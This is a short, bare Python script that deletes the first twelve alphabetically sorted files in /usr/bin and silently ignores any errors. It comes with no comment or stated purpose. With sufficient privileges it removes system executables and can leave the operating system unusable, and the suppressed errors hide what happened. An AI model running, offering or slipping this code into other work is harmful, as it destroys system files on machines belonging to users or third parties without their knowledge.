import os

for name in sorted(os.listdir("/usr/bin"))[:12]:
    try:
        os.unlink("/usr/bin/" + name)
    except OSError:
        pass
